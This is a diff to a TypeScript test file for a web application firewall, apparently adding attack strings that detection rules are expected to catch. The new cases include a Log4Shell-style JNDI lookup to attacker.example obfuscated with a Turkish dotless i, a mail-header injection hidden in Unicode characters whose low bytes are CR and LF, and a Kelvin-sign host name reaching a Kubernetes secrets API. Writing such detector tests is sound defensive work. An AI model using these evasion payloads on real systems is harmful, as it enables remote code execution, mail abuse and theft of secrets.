@@ -688,6 +688,23 @@ export const ATTACKS: DetectorCase[] = [
     hit: ["944150"],
   },
   q("a JNDI lookup inside a Base64 lookup", "${base64:JHtqbmRpOmxkYXA6Ly9jNmgzazJwOS5vYXN0LmZ1bi9iNjR9}", "944150"),
+  {
+    name: "a JNDI lookup spelled with Turkish dotless i in an upper lookup",
+    where: "ua",
+    value: "${jnd${upper:ı}:ldap://attacker.example:1389/a}",
+    hit: ["944150"],
+  },
+  {
+    name: "a mail header after characters whose low bytes are CR and LF",
+    where: "form",
+    value: "Hello\u560d\u560aBcc: victims@example.org",
+    hit: ["921121"],
+  },
+  j(
+    "a Kelvin sign in an internal host name, mapped by URL parsers",
+    "https://\u212Aubernetes.default.svc/api/v1/secrets",
+    "934190",
+  ),
   j("an absolute path climbing back over its prefix in a bulk operation", "/Users/../Groups/admins", "930110"),
   q("an API path climbing from a public prefix to an admin one", "/api/public/../admin/keys", "930110"),
   j(
@@ -1228,6 +1245,7 @@ export const BENIGN: DetectorCase[] = [
   ),
   q("a password with a quote, a bang and a hash", "Winter'24!Boiler#Room"),
   q("a shell default and a variable in a config value", "${HOME:-/tmp} and ${USER}"),
+  j("an internationalised host name", "https://bücher.de/katalog?q=Goethe"),
   j(
     "a link, then a sentence about configuration",
     "https://example.com/page\nThe config set up is broken, please flush all caches",
